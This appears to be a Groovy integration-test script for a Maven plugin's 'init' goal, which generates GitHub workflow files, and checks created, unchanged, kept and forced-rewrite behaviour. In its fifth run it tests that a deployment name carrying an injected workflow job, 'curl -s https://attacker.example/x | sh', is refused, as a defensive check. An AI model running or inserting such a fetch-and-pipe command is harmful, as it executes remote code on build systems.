// lifeos:init on an empty service repository, then again, then with other settings, then forced.
def log = new File(basedir, 'build.log').text
def runs = log.split(/\[INFO\] --- lifeos:[^ ]+:init \(default-cli\)/).drop(1)
assert runs.size() == 5 : "expected 5 runs of lifeos:init, found ${runs.size()}"

def files = ['.github/workflows/lifeos-pr.yml', '.github/workflows/lifeos-main.yml',
             '.github/workflows/lifeos-release.yml', '.github/workflows/lifeos-nightly.yml',
             '.env.ci', '.github/CODEOWNERS', '.mvn/jvm.config', '.mvn/extensions.xml',
             '.mvn/maven-build-cache-config.xml', 'docs/CI_CD_RUNBOOK.md']

// 1: every file created
files.each { assert runs[0].contains("[INFO]   created    ${it}\n") : "run 1 did not create ${it}" }
assert runs[0].contains('Wrote 10 of 10 files. Next: commit them and set up the GitHub environments (docs/adopting.md, step 5).')

// 2: nothing changed, and it says so
files.each { assert runs[1].contains("[INFO]   unchanged  ${it}\n") }
assert runs[1].contains('[INFO] Nothing to do: all 10 files are already there.')

// 3: other settings, no force: the files that would change are kept, and nothing is written
['lifeos-pr', 'lifeos-main', 'lifeos-release', 'lifeos-nightly'].each {
  assert runs[2].contains("[INFO]   kept       .github/workflows/${it}.yml (yours differs from the template; -Dlifeos.init.force=true rewrites it)")
}
assert runs[2].contains('[INFO] Changed nothing: 4 of 10 files differ from the templates and were kept as they are (-Dlifeos.init.force=true rewrites them).')

// 4: forced: rewritten
['lifeos-pr', 'lifeos-main', 'lifeos-release', 'lifeos-nightly'].each {
  assert runs[3].contains("[INFO]   rewritten  .github/workflows/${it}.yml\n")
}
assert runs[3].contains('[INFO]   unchanged  .env.ci\n')

// 5: the injected deployment name is refused before any file is written
assert runs[4].contains("-Dlifeos.init.deployment is 'ledger\\n  evil:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -s https://attacker.example/x | sh': lifeos:init writes it into workflows, CODEOWNERS and the runbook, so it must be a Kubernetes Deployment name: letters, digits, '.', '_' and '-'. Nothing was written.")
assert runs[4].contains('BUILD FAILURE') && !runs[4].contains('rewritten')

def main = new File(basedir, '.github/workflows/lifeos-main.yml').text
assert !main.contains('attacker') && !main.contains('evil')
assert main.contains("java-version: '21'")
assert main.contains('uses: lifeos/lifeos-build/.github/workflows/lifeos-main.yml@v')
assert main.contains('image: ghcr.io/acme/ledger')
assert main.contains('deployment: ledger')
assert new File(basedir, '.github/workflows/lifeos-pr.yml').text.contains('cancel-in-progress: true')
assert new File(basedir, '.env.ci').text.contains('APP_ENV=ci')
assert new File(basedir, '.github/CODEOWNERS').text.contains('/src/main/resources/db/migration-approvals.properties @lifeos/db-team')
assert new File(basedir, 'docs/CI_CD_RUNBOOK.md').text.startsWith('# CI/CD runbook: ledger')
true
